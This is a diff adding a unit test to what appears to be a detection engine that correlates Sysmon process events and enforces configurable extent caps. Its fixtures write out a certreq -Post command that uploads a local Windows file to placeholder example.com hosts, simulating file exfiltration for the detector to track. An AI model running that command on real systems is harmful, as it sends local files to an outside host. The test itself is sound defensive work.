@@ -143,3 +143,13 @@ test('scan mode (watchCapacity 0) keeps no live extent: finalize computes it', (
   const c = new Correlator({ watchCapacity: 0 });
   assert.equal(c.extentStats(), undefined);
 });
+
+test('the caps come from the correlation file (extent:), with errors naming the key', () => {
+  const c = new Correlator({ config: { extent: { followed: 1, destination_entries: 50 } } });
+  for (let i = 0; i < 3; i++) {
+    batch(c, [sysmonStart({ time: `2026-03-01T10:00:0${i}.000Z`, guid: `g-c${i}`, pid: 100 + i, image: CERTREQ, cmd: `certreq -Post -config https://x${i}.example/ C:\\Windows\\win.ini C:\\Users\\Public\\f${i}.dat` })]);
+  }
+  assert.deepEqual([c.extentStats()!.followed, c.extentStats()!.followedEvicted], [1, 2]);
+  assert.throws(() => new Correlator({ config: { extent: { follow: 3 } as never } }), /extent\.follow: unknown key \(expected followed, destinations, destination_entries, resolved\)/);
+  assert.throws(() => new Correlator({ config: { extent: { resolved: 0 } } }), /extent\.resolved: expected a positive integer/);
+});
